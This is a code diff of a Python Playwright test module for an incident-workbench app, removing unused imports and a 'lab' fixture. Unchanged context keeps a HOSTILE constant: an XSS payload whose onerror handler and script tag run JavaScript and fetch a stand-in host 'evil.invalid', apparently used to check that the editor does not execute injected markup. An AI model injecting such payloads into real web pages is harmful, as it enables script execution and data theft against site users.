@@ -8,14 +8,14 @@ from time import monotonic, sleep
 import msgspec
 import pytest
 from axe_playwright_python.sync_playwright import Axe
-from playwright.sync_api import Browser, Page, expect
+from playwright.sync_api import Page, expect
 
 from incident_workbench.model.claims import KINDS, Claim, DecisionPoint, Event, Hypothesis
 from incident_workbench.model.evidence import Span, span_of
 from incident_workbench.project import Project
 from incident_workbench.store import Store
 from incident_workbench.widgets.fields import Field, forms
-from tests.browser.lab import Lab, Notebook, serving
+from tests.browser.lab import Lab, Notebook
 
 SHOW = """\
 from incident_workbench import Store
@@ -27,12 +27,6 @@ editor"""
 HOSTILE = (
     "<img src=x onerror=\"window.__fired=1;fetch('http://evil.invalid/x')\"><script>window.__fired=1</script>"
 )
-
-
-@pytest.fixture(scope="module")
-def lab(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
-    with serving(tmp_path_factory.mktemp("editor-lab"), browser) as lab:
-        yield lab
 
 
 @pytest.fixture(scope="module")
